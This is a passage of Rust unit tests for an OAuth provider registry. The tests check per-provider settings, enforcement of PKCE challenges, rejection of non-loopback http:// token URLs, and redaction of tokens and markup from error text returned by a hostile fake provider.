    assert_eq!(
        r.get("github").unwrap().client_auth,
        integrations::oauth::ClientAuth::Post
    );
    assert_eq!(
        r.get("reddit").unwrap().authorize_params["duration"],
        "permanent"
    );
    let tiktok = r.get("tiktok").unwrap();
    assert_eq!(tiktok.client_id_param, "client_key");
    assert_eq!(tiktok.scope_separator, ",");
    assert_eq!(tiktok.account_id.as_ref().unwrap().pointer, "/open_id");
    let x = r.get("x").unwrap();
    assert!(x.pkce && x.scopes.iter().any(|s| s == "offline.access"));
    assert_eq!(x.account_id.as_ref().unwrap().pointer, "/data/id");

    // With the environment set, providers are configured.
    let r = ProviderRegistry::load(None, &|v: &str| Some(format!("value-{v}"))).unwrap();
    let x = r.get("x").unwrap();
    assert_eq!(x.client_id().unwrap(), "value-X_CLIENT_ID");
    assert_eq!(
        x.client_secret().unwrap().expose_secret(),
        "value-X_CLIENT_SECRET"
    );
}

#[test]
fn shipped_providers_send_a_pkce_challenge_except_reddit() {
    let r = ProviderRegistry::load(None, &|v: &str| Some(format!("value-{v}"))).unwrap();
    for name in ["github", "google", "tiktok", "x"] {
        let p = r.get(name).unwrap();
        assert!(p.pkce, "{name}");
        let (verifier, challenge) = pkce_pair();
        let url = authorize_url(p, "https://app.example/cb", "s", Some(&challenge), None).unwrap();
        let q: HashMap<String, String> = url.query_pairs().into_owned().collect();
        assert_eq!(
            q["code_challenge"],
            pkce_challenge(verifier.expose_secret()),
            "{name}"
        );
        assert_eq!(q["code_challenge_method"], "S256", "{name}");
        // Without a challenge the URL is refused rather than sent unprotected.
        let e = authorize_url(p, "https://app.example/cb", "s", None, None).unwrap_err();
        assert!(matches!(e, OAuthError::NotConfigured(_)), "{name}: {e:?}");
    }
    // Reddit documents no PKCE support; the README lists it with the risk.
    assert!(!r.get("reddit").unwrap().pkce);
    let readme = include_str!("../../../README.md");
    assert!(
        readme.contains("**Providers without PKCE: reddit**"),
        "the README names the providers without PKCE"
    );
}

#[test]
fn a_registry_file_with_an_http_url_to_another_host_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("providers.toml");
    let entry = |token_url: &str| {
        format!(
            "[acme]\nauthorize_url = \"https://acme.example/auth\"\ntoken_url = \"{token_url}\"\n\
             client_id = \"c\"\nclient_secret_env = \"S\"\nclient_auth = \"post\"\n"
        )
    };
    std::fs::write(&path, entry("http://acme.example/token")).unwrap();
    let e = ProviderRegistry::load(Some(&path), &env)
        .unwrap_err()
        .to_string();
    assert_eq!(
        e,
        format!(
            "provider registry {}: provider 'acme': field 'token_url': http:// is accepted only for loopback hosts (127.0.0.0/8, [::1], localhost), not 'acme.example'; use https://",
            path.display()
        )
    );
    // Loopback http stays accepted: the fake providers of these tests run there.
    for ok in [
        "http://127.0.0.1:9/token",
        "http://localhost:9/token",
        "http://[::1]:9/token",
    ] {
        std::fs::write(&path, entry(ok)).unwrap();
        ProviderRegistry::load(Some(&path), &env).unwrap();
    }
}

#[tokio::test]
async fn hostile_provider_error_text_is_sanitised_before_it_reaches_an_error() {
    let h = harness().await;
    let token = "hostile:RT-0123456789abcdefghij";
    let e = h.refresh("post", token).await.unwrap_err();
    assert_eq!(
        e,
        OAuthError::Rejected {
            status: 400,
            error: "provider_error".into(),
            description: Some("token [REDACTED] refused; call [number], see [link]".into()),
        }
    );
    let e = h
        .refresh("post", "hostile_markup:RT-0123456789abcdefghij")
        .await
        .unwrap_err();
    assert_eq!(
        e,
        OAuthError::Rejected {
            status: 400,
            error: "provider_error".into(),
            description: None,
        }
    );
    let e = h
        .refresh("post", "hostile_5xx:RT-0123456789abcdefghij")
        .await
        .unwrap_err();
    assert!(e.is_transient(), "{e:?}");
    let p = h.registry.get("basic").unwrap();
    let code_err = h
        .client
        .exchange_code(
            p,
            "hostile:CODE-0123456789abcdef",
            "https://app.example/cb",
            Some("v"),
        )
        .await
        .unwrap_err();
    for err in [e, code_err] {
        let text = format!("{err} {err:?}");
        for bad in ["RT-01234567", "CODE-0123", "<", "555", "evil", "/x"] {
            assert!(!text.contains(bad), "{bad}: {text}");
        }
        assert!(text.contains("(provider_error"), "{text}");
    }
}
